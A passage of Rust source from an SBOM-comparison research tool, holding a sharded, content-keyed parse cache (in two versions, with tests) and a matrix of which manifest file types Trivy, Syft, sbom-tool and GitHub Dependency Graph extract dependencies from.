            let cached = tool.generate_with_cache(&repo, &cache);
            assert_eq!(plain, cached, "{}", tool.id());
        }
    }

    #[test]
    fn cache_is_shareable_across_threads() {
        let repo = repo();
        let cache = ParseCache::new();
        let sboms = sbomdiff_parallel::par_map(4, &[0u8; 8], |_, _| {
            ToolEmulator::trivy().generate_with_cache(&repo, &cache)
        });
        for sbom in &sboms {
            assert_eq!(sbom, &sboms[0]);
        }
        assert_eq!(cache.misses() + cache.hits(), 16, "2 files x 8 scans");
    }

    #[test]
    fn mutated_content_is_reparsed_not_served_stale() {
        // Same repository name, same path, different bytes: the content
        // hash in the key forces a fresh parse.
        let cache = ParseCache::new();
        let mut v1 = RepoFs::new("same-name");
        v1.add_text("requirements.txt", "numpy==1.19.2\n");
        let mut v2 = RepoFs::new("same-name");
        v2.add_text("requirements.txt", "numpy==1.25.0\n");
        let a = ToolEmulator::trivy().generate_with_cache(&v1, &cache);
        let b = ToolEmulator::trivy().generate_with_cache(&v2, &cache);
        assert_eq!(a.components()[0].version.as_deref(), Some("1.19.2"));
        assert_eq!(b.components()[0].version.as_deref(), Some("1.25.0"));
        assert_eq!(cache.misses(), 2, "mutated file must re-parse");
    }

    #[test]
    fn identical_content_shared_across_repositories() {
        // Different repository names, identical manifest bytes: one parse.
        let cache = ParseCache::new();
        let mut a = RepoFs::new("repo-a");
        a.add_text("requirements.txt", "numpy==1.19.2\n");
        let mut b = RepoFs::new("repo-b");
        b.add_text("requirements.txt", "numpy==1.19.2\n");
        ToolEmulator::trivy().generate_with_cache(&a, &cache);
        ToolEmulator::trivy().generate_with_cache(&b, &cache);
        assert_eq!((cache.misses(), cache.hits()), (1, 1));
    }

    #[test]
    fn reference_and_dialect_parses_do_not_share_entries() {
        let cache = ParseCache::new();
        let mut repo = RepoFs::new("split");
        repo.add_text("go.mod", "module m\nrequire github.com/pkg/errors v0.9.1\n");
        let dialect = cache.parse(&repo, "go.mod", MetadataKind::GoMod, ReqStyle::TrivySyft);
        let reference = cache.parse_reference(&repo, "go.mod", MetadataKind::GoMod);
        assert_eq!(cache.misses(), 2, "two parser families, two entries");
        assert!(!Arc::ptr_eq(&dialect, &reference));
    }
}

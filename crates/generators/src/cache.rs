//! Shared memoized metadata-parse cache.
//!
//! Every studied tool walks the *same* repository metadata, so in the
//! differential pipeline each manifest used to be parsed four times — once
//! per emulator. [`ParseCache`] memoizes the parsed declarations keyed by
//! `(path, content hash, file kind, parser)`: the requirements dialect is
//! the only profile-dependent parser input, so Trivy and Syft — which share
//! the [`ReqStyle::TrivySyft`] dialect — also share cache entries, and
//! every other file kind is parsed exactly once no matter how many
//! emulators scan it.
//!
//! The key hashes the file *content*, not the repository name. Two
//! consequences:
//!
//! * A long-lived cache (the analysis service, corpus experiments) can be
//!   shared across repositories and requests: re-analyzing an unchanged
//!   manifest is a lookup, while a *mutated* file hashes to a different
//!   key and is re-parsed — a stale parse can never be served, even when
//!   two requests reuse one repository name.
//! * Identical manifests in different repositories (common in synthetic
//!   corpora and real monorepos) collapse into one parse.
//!
//! The cache is sharded (16 mutexes selected by key hash) so the parallel
//! fan-out in `sbomdiff-experiments` contends only when two workers touch
//! the same shard at the same instant. Hit/miss counters feed the
//! experiment driver's timing report and the service's `/metrics`.
//!
//! Capacity is bounded in *bytes* (manifest content plus a fixed per-entry
//! overhead), evicting least-recently-used entries per shard. The default
//! budget is far above what any batch run parses, so experiments see an
//! effectively unbounded cache; the long-lived service keeps a stable
//! footprint instead of growing with every distinct manifest it ever saw.

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, PoisonError};

use sbomdiff_metadata::python::ReqStyle;
use sbomdiff_metadata::{MetadataKind, Parsed, RepoFs};

const SHARDS: usize = 16;

/// Default cache budget. Generous: a whole calibrated corpus parses well
/// under this, so only the service's unbounded request stream ever evicts.
pub const DEFAULT_CAPACITY_BYTES: usize = 64 * 1024 * 1024;

/// Fixed accounting overhead per entry (key strings, map slot, `Arc`
/// bookkeeping) added to the manifest's content length.
const ENTRY_OVERHEAD: usize = 64;

/// Which parser family produced a cached entry. Emulator profiles use the
/// dialect parsers (parameterized by requirements style); the best-practice
/// generator uses the reference parsers, which accept strictly more syntax
/// — the two must never share entries for the same file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub(crate) enum ParserKey {
    /// Tool-dialect parse; the `Option` is the requirements dialect
    /// (`None` for every kind other than `requirements.txt`, collapsing
    /// all profiles onto one entry).
    Dialect(Option<ReqStyle>),
    /// Reference (spec-faithful) parse for the best-practice generator.
    Reference,
}

impl ParserKey {
    /// Dense index for per-scan memo slots (see [`crate::ScanContext`]).
    pub(crate) fn slot(self) -> usize {
        match self {
            ParserKey::Dialect(None) => 0,
            ParserKey::Dialect(Some(ReqStyle::Pip)) => 1,
            ParserKey::Dialect(Some(ReqStyle::TrivySyft)) => 2,
            ParserKey::Dialect(Some(ReqStyle::SbomTool)) => 3,
            ParserKey::Dialect(Some(ReqStyle::GithubDg)) => 4,
            ParserKey::Reference => 5,
        }
    }

    /// Number of distinct [`ParserKey::slot`] values.
    pub(crate) const SLOTS: usize = 6;
}

type Key = (String, u64, MetadataKind, ParserKey);

struct Entry {
    parsed: Arc<Parsed>,
    cost: usize,
    last_used: u64,
}

#[derive(Default)]
struct ShardState {
    map: HashMap<Key, Entry>,
    /// Sum of `cost` over `map` — must stay exact across insert, replace
    /// and evict, or the shard's eviction pressure drifts from reality.
    bytes: usize,
}

impl ShardState {
    fn insert(&mut self, key: Key, parsed: Arc<Parsed>, cost: usize, tick: u64) -> Arc<Parsed> {
        use std::collections::hash_map::Entry as MapEntry;
        match self.map.entry(key) {
            MapEntry::Occupied(mut slot) => {
                // Replace (two workers raced on the same parse): debit the
                // outgoing entry's bytes *before* crediting the new ones.
                // Crediting alone inflates the tally on every overwrite,
                // and the phantom bytes then evict live entries long
                // before the shard is actually full.
                let outgoing = slot.get().cost;
                self.bytes = self.bytes + cost - outgoing;
                slot.insert(Entry {
                    parsed: Arc::clone(&parsed),
                    cost,
                    last_used: tick,
                });
                parsed
            }
            MapEntry::Vacant(slot) => {
                self.bytes += cost;
                Arc::clone(
                    &slot
                        .insert(Entry {
                            parsed,
                            cost,
                            last_used: tick,
                        })
                        .parsed,
                )
            }
        }
    }

    /// Evicts least-recently-used entries until the shard fits `cap`.
    /// A single oversized entry is kept (there is nothing useful to evict
    /// it for); returns how many entries were dropped.
    fn evict_to(&mut self, cap: usize) -> u64 {
        let mut evicted = 0;
        while self.bytes > cap && self.map.len() > 1 {
            let victim = self
                .map
                .iter()
                .min_by_key(|(_, e)| e.last_used)
                .map(|(k, _)| k.clone());
            match victim {
                Some(key) => {
                    if let Some(old) = self.map.remove(&key) {
                        self.bytes -= old.cost;
                        evicted += 1;
                    }
                }
                None => break,
            }
        }
        evicted
    }
}

type Shard = Mutex<ShardState>;

/// Memoizes [`parse`](ParseCache::parse) results across tool emulators,
/// repositories and requests.
///
/// # Examples
///
/// ```
/// use sbomdiff_generators::{ParseCache, SbomGenerator, ToolEmulator};
/// use sbomdiff_metadata::RepoFs;
///
/// let mut repo = RepoFs::new("demo");
/// repo.add_text("requirements.txt", "numpy==1.19.2\n");
/// let cache = ParseCache::new();
/// let a = ToolEmulator::trivy().generate_with_cache(&repo, &cache);
/// let b = ToolEmulator::syft().generate_with_cache(&repo, &cache);
/// assert_eq!(a.len(), b.len());
/// // Trivy and Syft share the requirements dialect: one parse, one hit.
/// assert_eq!((cache.misses(), cache.hits()), (1, 1));
/// ```
pub struct ParseCache {
    shards: Vec<Shard>,
    per_shard_cap: usize,
    hits: AtomicU64,
    misses: AtomicU64,
    evictions: AtomicU64,
    tick: AtomicU64,
}

impl Default for ParseCache {
    fn default() -> Self {
        ParseCache::new()
    }
}

impl ParseCache {
    /// An empty cache with the default byte budget.
    pub fn new() -> Self {
        ParseCache::with_capacity_bytes(DEFAULT_CAPACITY_BYTES)
    }

    /// An empty cache holding at most `capacity` accounted bytes
    /// (distributed evenly across shards).
    pub fn with_capacity_bytes(capacity: usize) -> Self {
        ParseCache {
            shards: (0..SHARDS)
                .map(|_| Mutex::new(ShardState::default()))
                .collect(),
            per_shard_cap: capacity.div_ceil(SHARDS).max(1),
            hits: AtomicU64::new(0),
            misses: AtomicU64::new(0),
            evictions: AtomicU64::new(0),
            tick: AtomicU64::new(0),
        }
    }

    /// Parses `path` of `repo` as `kind` under the `style` requirements
    /// dialect, memoized. The returned `Arc` is shared with every other
    /// caller asking for the same `(path, content, kind, dialect)`.
    pub fn parse(
        &self,
        repo: &RepoFs,
        path: &str,
        kind: MetadataKind,
        style: ReqStyle,
    ) -> Arc<Parsed> {
        // Only requirements.txt parsing is dialect-dependent; collapsing
        // the key for every other kind lets all four tools share one entry.
        let dialect = (kind == MetadataKind::RequirementsTxt).then_some(style);
        self.memoized(repo, path, kind, ParserKey::Dialect(dialect), || {
            crate::emulator::parse_with_style(repo, path, kind, style)
        })
    }

    /// Parses `path` of `repo` as `kind` with the *reference* parsers the
    /// best-practice generator uses, memoized separately from the dialect
    /// parses (the reference grammar accepts strictly more syntax).
    pub fn parse_reference(&self, repo: &RepoFs, path: &str, kind: MetadataKind) -> Arc<Parsed> {
        self.memoized(repo, path, kind, ParserKey::Reference, || {
            crate::bestpractice::parse_reference(repo, path, kind)
        })
    }

    fn memoized(
        &self,
        repo: &RepoFs,
        path: &str,
        kind: MetadataKind,
        parser: ParserKey,
        parse: impl FnOnce() -> Parsed,
    ) -> Arc<Parsed> {
        // Under an installed fault plan the cache is bypassed entirely:
        // keys hash clean content, so caching a faulted parse would let
        // corrupt results outlive the plan (and clean cached entries would
        // mask injected faults). Counted as a miss to keep stats honest.
        if sbomdiff_faultline::enabled() {
            self.misses.fetch_add(1, Ordering::Relaxed);
            return Arc::new(parse());
        }
        let content_bytes = repo.bytes(path).unwrap_or_default();
        let cost = content_bytes.len() + path.len() + ENTRY_OVERHEAD;
        let content = fnv_bytes(content_bytes);
        let key: Key = (path.to_string(), content, kind, parser);
        let shard = &self.shards[fxhash(&key) as usize % SHARDS];
        // A poisoned shard only means another worker panicked mid-insert;
        // the map itself is still coherent, so recover instead of cascading.
        {
            let mut guard = shard.lock().unwrap_or_else(PoisonError::into_inner);
            if let Some(found) = guard.map.get_mut(&key) {
                found.last_used = self.tick.fetch_add(1, Ordering::Relaxed);
                let parsed = Arc::clone(&found.parsed);
                drop(guard);
                self.hits.fetch_add(1, Ordering::Relaxed);
                return parsed;
            }
        }
        // Parse outside the lock: other shard keys stay available and a
        // racing duplicate parse is deterministic anyway (the loser's
        // result replaces the winner's byte-identical one).
        let parsed = Arc::new(parse());
        self.misses.fetch_add(1, Ordering::Relaxed);
        let tick = self.tick.fetch_add(1, Ordering::Relaxed);
        let mut guard = shard.lock().unwrap_or_else(PoisonError::into_inner);
        let out = guard.insert(key, parsed, cost, tick);
        let evicted = guard.evict_to(self.per_shard_cap);
        drop(guard);
        if evicted > 0 {
            self.evictions.fetch_add(evicted, Ordering::Relaxed);
        }
        out
    }

    /// Records a reuse that was served from a scan-local memo instead of a
    /// shard lookup — still a shared parse avoided, so it counts as a hit.
    pub(crate) fn record_hit(&self) {
        self.hits.fetch_add(1, Ordering::Relaxed);
    }

    /// Cache hits so far (memoized parses reused).
    pub fn hits(&self) -> u64 {
        self.hits.load(Ordering::Relaxed)
    }

    /// Cache misses so far (actual parses performed).
    pub fn misses(&self) -> u64 {
        self.misses.load(Ordering::Relaxed)
    }

    /// Total entries currently held.
    pub fn len(&self) -> usize {
        self.shards
            .iter()
            .map(|s| s.lock().unwrap_or_else(PoisonError::into_inner).map.len())
            .sum()
    }

    /// True when nothing has been parsed yet.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Accounted bytes currently held across all shards.
    pub fn total_bytes(&self) -> usize {
        self.shards
            .iter()
            .map(|s| s.lock().unwrap_or_else(PoisonError::into_inner).bytes)
            .sum()
    }

    /// The configured byte budget.
    pub fn capacity_bytes(&self) -> usize {
        self.per_shard_cap * SHARDS
    }

    /// Entries evicted so far to stay under the byte budget.
    pub fn evictions(&self) -> u64 {
        self.evictions.load(Ordering::Relaxed)
    }
}

fn fxhash(key: &Key) -> u64 {
    use std::hash::{Hash, Hasher};
    let mut h = std::collections::hash_map::DefaultHasher::new();
    key.hash(&mut h);
    h.finish()
}

fn fnv_bytes(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        h = (h ^ b as u64).wrapping_mul(0x100_0000_01b3);
    }
    h
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{SbomGenerator, ToolEmulator};

    fn repo() -> RepoFs {
        let mut repo = RepoFs::new("cache-demo");
        repo.add_text("requirements.txt", "numpy==1.19.2\nflask>=2.0\n");
        repo.add_text("go.mod", "module m\nrequire github.com/pkg/errors v0.9.1\n");
        repo
    }

    #[test]
    fn memoizes_per_dialect() {
        let repo = repo();
        let cache = ParseCache::new();
        let trivy = ToolEmulator::trivy();
        let syft = ToolEmulator::syft();
        let github = ToolEmulator::github_dg();
        trivy.generate_with_cache(&repo, &cache);
        syft.generate_with_cache(&repo, &cache);
        github.generate_with_cache(&repo, &cache);
        // requirements.txt: TrivySyft dialect parsed once (shared by two
        // tools) + GithubDg dialect once. go.mod: dialect-independent, one
        // parse shared by all supporting tools.
        assert_eq!(cache.misses(), 3);
        assert!(cache.hits() >= 2, "hits={}", cache.hits());
    }

    #[test]
    fn cached_scan_equals_uncached_scan() {
        let repo = repo();
        let cache = ParseCache::new();
        for tool in [
            ToolEmulator::trivy(),
            ToolEmulator::syft(),
            ToolEmulator::github_dg(),
        ] {
            let plain = tool.generate(&repo);
            let cached = tool.generate_with_cache(&repo, &cache);
            assert_eq!(plain, cached, "{}", tool.id());
        }
    }

    #[test]
    fn cache_is_shareable_across_threads() {
        let repo = repo();
        let cache = ParseCache::new();
        let sboms = sbomdiff_parallel::par_map(4, &[0u8; 8], |_, _| {
            ToolEmulator::trivy().generate_with_cache(&repo, &cache)
        });
        for sbom in &sboms {
            assert_eq!(sbom, &sboms[0]);
        }
        assert_eq!(cache.misses() + cache.hits(), 16, "2 files x 8 scans");
    }

    #[test]
    fn mutated_content_is_reparsed_not_served_stale() {
        // Same repository name, same path, different bytes: the content
        // hash in the key forces a fresh parse.
        let cache = ParseCache::new();
        let mut v1 = RepoFs::new("same-name");
        v1.add_text("requirements.txt", "numpy==1.19.2\n");
        let mut v2 = RepoFs::new("same-name");
        v2.add_text("requirements.txt", "numpy==1.25.0\n");
        let a = ToolEmulator::trivy().generate_with_cache(&v1, &cache);
        let b = ToolEmulator::trivy().generate_with_cache(&v2, &cache);
        assert_eq!(a.components()[0].version.as_deref(), Some("1.19.2"));
        assert_eq!(b.components()[0].version.as_deref(), Some("1.25.0"));
        assert_eq!(cache.misses(), 2, "mutated file must re-parse");
    }

    #[test]
    fn identical_content_shared_across_repositories() {
        // Different repository names, identical manifest bytes: one parse.
        let cache = ParseCache::new();
        let mut a = RepoFs::new("repo-a");
        a.add_text("requirements.txt", "numpy==1.19.2\n");
        let mut b = RepoFs::new("repo-b");
        b.add_text("requirements.txt", "numpy==1.19.2\n");
        ToolEmulator::trivy().generate_with_cache(&a, &cache);
        ToolEmulator::trivy().generate_with_cache(&b, &cache);
        assert_eq!((cache.misses(), cache.hits()), (1, 1));
    }

    #[test]
    fn replace_debits_outgoing_entry_bytes() {
        // Regression: overwriting an existing key (racing duplicate parse)
        // must subtract the old entry's cost. With credit-only accounting
        // the tally drifts up by the old cost on every overwrite and the
        // shard evicts while half empty.
        let key = |p: &str| -> Key {
            (
                p.to_string(),
                7,
                MetadataKind::RequirementsTxt,
                ParserKey::Reference,
            )
        };
        let mut shard = ShardState::default();
        shard.insert(key("a"), Arc::new(Parsed::ok(Vec::new())), 1000, 0);
        assert_eq!(shard.bytes, 1000);
        for tick in 1..50 {
            shard.insert(key("a"), Arc::new(Parsed::ok(Vec::new())), 1000, tick);
            assert_eq!(shard.bytes, 1000, "replace must not drift at tick {tick}");
        }
        // Replacement with a different cost settles on the new cost alone.
        shard.insert(key("a"), Arc::new(Parsed::ok(Vec::new())), 400, 50);
        assert_eq!(shard.bytes, 400);
        shard.insert(key("a"), Arc::new(Parsed::ok(Vec::new())), 1200, 51);
        assert_eq!(shard.bytes, 1200);
    }

    #[test]
    fn churning_one_key_keeps_capacity_stable() {
        // One path, ever-changing content: every revision is a distinct
        // content-hash key, so a long-lived service would grow without
        // bound were the byte budget not enforced.
        let cache = ParseCache::with_capacity_bytes(16 * 1024);
        for i in 0..400 {
            let mut repo = RepoFs::new("churn");
            repo.add_text(
                "requirements.txt",
                format!("pkg{i}==1.0.{i}\n{}\n", "x".repeat(100)),
            );
            ToolEmulator::trivy().generate_with_cache(&repo, &cache);
            assert!(
                cache.total_bytes() <= cache.capacity_bytes(),
                "over budget at revision {i}: {} > {}",
                cache.total_bytes(),
                cache.capacity_bytes()
            );
        }
        assert!(cache.evictions() > 0, "churn past the budget must evict");
        assert!(cache.len() < 400, "stale revisions must not accumulate");
        // Accounting stays exact: re-derive the tally from live entries.
        let recomputed: usize = cache
            .shards
            .iter()
            .map(|s| {
                let guard = s.lock().unwrap();
                let sum: usize = guard.map.values().map(|e| e.cost).sum();
                assert_eq!(sum, guard.bytes, "shard tally must match entries");
                sum
            })
            .sum();
        assert_eq!(recomputed, cache.total_bytes());
    }

    #[test]
    fn recently_used_entries_survive_eviction() {
        let cache = ParseCache::with_capacity_bytes(8 * 1024);
        let mut hot = RepoFs::new("hot");
        hot.add_text("requirements.txt", "numpy==1.19.2\n");
        ToolEmulator::trivy().generate_with_cache(&hot, &cache);
        for i in 0..200 {
            let mut cold = RepoFs::new("cold");
            cold.add_text(
                "requirements.txt",
                format!("cold{i}==0.0.{i}\n{}\n", "y".repeat(80)),
            );
            ToolEmulator::trivy().generate_with_cache(&cold, &cache);
            // Touch the hot entry each round so its recency stays fresh.
            let before = cache.misses();
            ToolEmulator::trivy().generate_with_cache(&hot, &cache);
            assert_eq!(cache.misses(), before, "hot entry evicted at round {i}");
        }
    }

    #[test]
    fn default_capacity_never_evicts_in_batch_scale_runs() {
        let cache = ParseCache::new();
        for i in 0..50 {
            let mut repo = RepoFs::new(format!("repo-{i}"));
            repo.add_text("requirements.txt", format!("pkg{i}==1.0.0\n"));
            repo.add_text("go.mod", format!("module m{i}\nrequire a.b/c v1.{i}.0\n"));
            ToolEmulator::trivy().generate_with_cache(&repo, &cache);
        }
        assert_eq!(cache.evictions(), 0);
        assert!(cache.total_bytes() <= cache.capacity_bytes());
    }

    #[test]
    fn reference_and_dialect_parses_do_not_share_entries() {
        let cache = ParseCache::new();
        let mut repo = RepoFs::new("split");
        repo.add_text("go.mod", "module m\nrequire github.com/pkg/errors v0.9.1\n");
        let dialect = cache.parse(&repo, "go.mod", MetadataKind::GoMod, ReqStyle::TrivySyft);
        let reference = cache.parse_reference(&repo, "go.mod", MetadataKind::GoMod);
        assert_eq!(cache.misses(), 2, "two parser families, two entries");
        assert!(!Arc::ptr_eq(&dialect, &reference));
    }
}

//! Shared memoized metadata-parse cache.
//!
//! Every studied tool walks the *same* repository metadata, so in the
//! differential pipeline each manifest used to be parsed four times — once
//! per emulator. [`ParseCache`] memoizes the parsed declarations keyed by
//! `(repository, path, requirements dialect)`: the dialect matters only for
//! `requirements.txt` (the one profile-dependent parser input), so Trivy
//! and Syft — which share the [`ReqStyle::TrivySyft`] dialect — also share
//! cache entries, and every other file kind is parsed exactly once per
//! repository no matter how many emulators scan it.
//!
//! The cache is sharded (16 mutexes selected by key hash) so the parallel
//! `(repository × tool)` fan-out in `sbomdiff-experiments` contends only
//! when two workers touch the same shard at the same instant. Hit/miss
//! counters feed the experiment driver's timing report.
//!
//! Correctness requirement: repository names must be unique within one
//! cache's lifetime (the synthetic corpus names repositories
//! `{ecosystem}-repo-{index:04}`, which satisfies this). Reusing a name for
//! different content would serve stale parses.

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, PoisonError};

use sbomdiff_metadata::python::ReqStyle;
use sbomdiff_metadata::{MetadataKind, Parsed, RepoFs};

const SHARDS: usize = 16;

type Key = (String, String, Option<ReqStyle>);
type Shard = Mutex<HashMap<Key, Arc<Parsed>>>;

/// Memoizes [`parse`](ParseCache::parse) results across tool emulators.
///
/// # Examples
///
/// ```
/// use sbomdiff_generators::{ParseCache, SbomGenerator, ToolEmulator};
/// use sbomdiff_metadata::RepoFs;
///
/// let mut repo = RepoFs::new("demo");
/// repo.add_text("requirements.txt", "numpy==1.19.2\n");
/// let cache = ParseCache::new();
/// let a = ToolEmulator::trivy().generate_with_cache(&repo, &cache);
/// let b = ToolEmulator::syft().generate_with_cache(&repo, &cache);
/// assert_eq!(a.len(), b.len());
/// // Trivy and Syft share the requirements dialect: one parse, one hit.
/// assert_eq!((cache.misses(), cache.hits()), (1, 1));
/// ```
pub struct ParseCache {
    shards: Vec<Shard>,
    hits: AtomicU64,
    misses: AtomicU64,
}

impl Default for ParseCache {
    fn default() -> Self {
        ParseCache::new()
    }
}

impl ParseCache {
    /// An empty cache.
    pub fn new() -> Self {
        ParseCache {
            shards: (0..SHARDS).map(|_| Mutex::new(HashMap::new())).collect(),
            hits: AtomicU64::new(0),
            misses: AtomicU64::new(0),
        }
    }

    /// Parses `path` of `repo` as `kind` under the `style` requirements
    /// dialect, memoized. The returned `Arc` is shared with every other
    /// caller asking for the same `(repository, path, dialect)`.
    pub fn parse(
        &self,
        repo: &RepoFs,
        path: &str,
        kind: MetadataKind,
        style: ReqStyle,
    ) -> Arc<Parsed> {
        // Only requirements.txt parsing is dialect-dependent; collapsing
        // the key for every other kind lets all four tools share one entry.
        let dialect = (kind == MetadataKind::RequirementsTxt).then_some(style);
        let key: Key = (repo.name().to_string(), path.to_string(), dialect);
        let shard = &self.shards[fxhash(&key) as usize % SHARDS];
        // A poisoned shard only means another worker panicked mid-insert;
        // the map itself is still coherent, so recover instead of cascading.
        if let Some(found) = shard
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .get(&key)
        {
            self.hits.fetch_add(1, Ordering::Relaxed);
            return Arc::clone(found);
        }
        // Parse outside the lock: other shard keys stay available and a
        // racing duplicate parse is deterministic anyway.
        let parsed = Arc::new(crate::emulator::parse_with_style(repo, path, kind, style));
        self.misses.fetch_add(1, Ordering::Relaxed);
        Arc::clone(
            shard
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .entry(key)
                .or_insert(parsed),
        )
    }

    /// Cache hits so far (memoized parses reused).
    pub fn hits(&self) -> u64 {
        self.hits.load(Ordering::Relaxed)
    }

    /// Cache misses so far (actual parses performed).
    pub fn misses(&self) -> u64 {
        self.misses.load(Ordering::Relaxed)
    }

    /// Total entries currently held.
    pub fn len(&self) -> usize {
        self.shards
            .iter()
            .map(|s| s.lock().unwrap_or_else(PoisonError::into_inner).len())
            .sum()
    }

    /// True when nothing has been parsed yet.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

fn fxhash(key: &Key) -> u64 {
    use std::hash::{Hash, Hasher};
    let mut h = std::collections::hash_map::DefaultHasher::new();
    key.hash(&mut h);
    h.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{SbomGenerator, ToolEmulator};

    fn repo() -> RepoFs {
        let mut repo = RepoFs::new("cache-demo");
        repo.add_text("requirements.txt", "numpy==1.19.2\nflask>=2.0\n");
        repo.add_text("go.mod", "module m\nrequire github.com/pkg/errors v0.9.1\n");
        repo
    }

    #[test]
    fn memoizes_per_dialect() {
        let repo = repo();
        let cache = ParseCache::new();
        let trivy = ToolEmulator::trivy();
        let syft = ToolEmulator::syft();
        let github = ToolEmulator::github_dg();
        trivy.generate_with_cache(&repo, &cache);
        syft.generate_with_cache(&repo, &cache);
        github.generate_with_cache(&repo, &cache);
        // requirements.txt: TrivySyft dialect parsed once (shared by two
        // tools) + GithubDg dialect once. go.mod: dialect-independent, one
        // parse shared by all supporting tools.
        assert_eq!(cache.misses(), 3);
        assert!(cache.hits() >= 2, "hits={}", cache.hits());
    }

    #[test]
    fn cached_scan_equals_uncached_scan() {
        let repo = repo();
        let cache = ParseCache::new();
        for tool in [
            ToolEmulator::trivy(),
            ToolEmulator::syft(),
            ToolEmulator::github_dg(),
        ] {
            let plain = tool.generate(&repo);
            let cached = tool.generate_with_cache(&repo, &cache);
            assert_eq!(plain, cached, "{}", tool.id());
        }
    }

    #[test]
    fn cache_is_shareable_across_threads() {
        let repo = repo();
        let cache = ParseCache::new();
        let sboms = sbomdiff_parallel::par_map(4, &[0u8; 8], |_, _| {
            ToolEmulator::trivy().generate_with_cache(&repo, &cache)
        });
        for sbom in &sboms {
            assert_eq!(sbom, &sboms[0]);
        }
        assert_eq!(cache.misses() + cache.hits(), 16, "2 files x 8 scans");
    }
}

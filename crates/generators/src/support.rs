//! Per-tool supported-file-type matrices (Table II), extended with the
//! Swift and .NET formats the paper's Fig. 1 implies but does not tabulate
//! (assumptions recorded in DESIGN.md).

use std::collections::BTreeSet;

use sbomdiff_metadata::MetadataKind;

use crate::ToolId;

/// The set of metadata file types a tool actually extracts dependencies
/// from.
///
/// Table II distinguishes *claimed* support from actual extraction (Trivy
/// and Syft claim `package.json` but extract nothing from it, §V-A); this
/// matrix encodes actual behavior.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SupportMatrix {
    supported: BTreeSet<MetadataKind>,
    /// Kinds the tool's documentation *claims* but the tool extracts
    /// nothing from (§V-A: Trivy and Syft on package.json).
    claimed_only: BTreeSet<MetadataKind>,
}

impl SupportMatrix {
    /// Builds a matrix from a list of supported kinds.
    pub fn from_kinds(kinds: &[MetadataKind]) -> Self {
        SupportMatrix {
            supported: kinds.iter().copied().collect(),
            claimed_only: BTreeSet::new(),
        }
    }

    /// Adds claimed-but-non-extracting kinds.
    pub fn with_claimed_only(mut self, kinds: &[MetadataKind]) -> Self {
        self.claimed_only = kinds.iter().copied().collect();
        self
    }

    /// Whether the tool's documentation claims support for a kind
    /// (extracting or not).
    pub fn claims(&self, kind: MetadataKind) -> bool {
        self.supported.contains(&kind) || self.claimed_only.contains(&kind)
    }

    /// Kinds claimed but not actually extracted from (§V-A).
    pub fn claimed_only(&self) -> impl Iterator<Item = MetadataKind> + '_ {
        self.claimed_only.iter().copied()
    }

    /// Table II (+ extensions) for one of the studied tools.
    pub fn for_tool(tool: ToolId) -> Self {
        use MetadataKind::*;
        let kinds: &[MetadataKind] = match tool {
            ToolId::Trivy => &[
                GoMod,
                GoSum,
                GoBinary,
                PomXml,
                GradleLockfile,
                ManifestMf,
                PomProperties,
                PackageLockJson,
                ComposerLock,
                RequirementsTxt,
                PoetryLock,
                PipfileLock,
                GemfileLock,
                Gemspec,
                CargoLock,
                RustBinary,
                PackageResolved,
                PodfileLock,
                PackagesLockJson,
            ],
            ToolId::Syft => &[
                GoMod,
                GoBinary,
                PomXml,
                GradleLockfile,
                ManifestMf,
                PomProperties,
                PackageLockJson,
                YarnLock,
                PnpmLock,
                ComposerLock,
                RequirementsTxt,
                PoetryLock,
                PipfileLock,
                GemfileLock,
                Gemspec,
                CargoLock,
                RustBinary,
                PodfileLock,
                PackagesConfig,
                PackagesLockJson,
            ],
            ToolId::SbomTool => &[
                GoMod,
                PomXml,
                GradleLockfile,
                PackageLockJson,
                YarnLock,
                PnpmLock,
                RequirementsTxt,
                PoetryLock,
                PipfileLock,
                GemfileLock,
                Gemspec,
                CargoLock,
                PackageResolved,
                PodfileLock,
                Csproj,
                PackagesConfig,
                PackagesLockJson,
            ],
            ToolId::GithubDg => &[
                GoMod,
                PomXml,
                GradleLockfile,
                PackageJson,
                PackageLockJson,
                YarnLock,
                ComposerJson,
                ComposerLock,
                RequirementsTxt,
                PoetryLock,
                PipfileLock,
                SetupPy,
                Gemfile,
                GemfileLock,
                Gemspec,
                CargoToml,
                CargoLock,
                PackageSwift,
                PackageResolved,
                Csproj,
                PackagesConfig,
                PackagesLockJson,
            ],
            ToolId::BestPractice => return SupportMatrix::from_kinds(&MetadataKind::ALL),
        };
        let matrix = SupportMatrix::from_kinds(kinds);
        match tool {
            // §V-A: "Despite claims by Trivy and Syft to support
            // package.json, they do not extract dependencies from the JSON
            // file."
            ToolId::Trivy | ToolId::Syft => matrix.with_claimed_only(&[PackageJson]),
            _ => matrix,
        }
    }

    /// Whether the tool extracts dependencies from this file type.
    pub fn supports(&self, kind: MetadataKind) -> bool {
        self.supported.contains(&kind)
    }

    /// Iterates over supported kinds.
    pub fn kinds(&self) -> impl Iterator<Item = MetadataKind> + '_ {
        self.supported.iter().copied()
    }
}

/// The exact rows of the paper's Table II: (file type, Trivy, Syft,
/// sbom-tool, GitHub DG). Used to verify the profiles stay faithful and to
/// regenerate the table in `experiments table2`.
pub const TABLE_II: [(MetadataKind, bool, bool, bool, bool); 22] = {
    use MetadataKind::*;
    [
        (GoMod, true, true, true, true),
        (GoBinary, true, true, false, false),
        (PomXml, true, true, true, true),
        (GradleLockfile, true, true, true, true),
        (ManifestMf, true, true, false, false),
        (PomProperties, true, true, false, false),
        (PackageJson, false, false, false, true),
        (PackageLockJson, true, true, true, true),
        (YarnLock, false, true, true, true),
        (PnpmLock, false, true, true, false),
        (ComposerJson, false, false, false, true),
        (ComposerLock, true, true, false, true),
        (RequirementsTxt, true, true, true, true),
        (PoetryLock, true, true, true, true),
        (PipfileLock, true, true, true, true),
        (SetupPy, false, false, false, true),
        (Gemfile, false, false, false, true),
        (GemfileLock, true, true, true, true),
        (Gemspec, true, true, true, true),
        (CargoToml, false, false, false, true),
        (CargoLock, true, true, true, true),
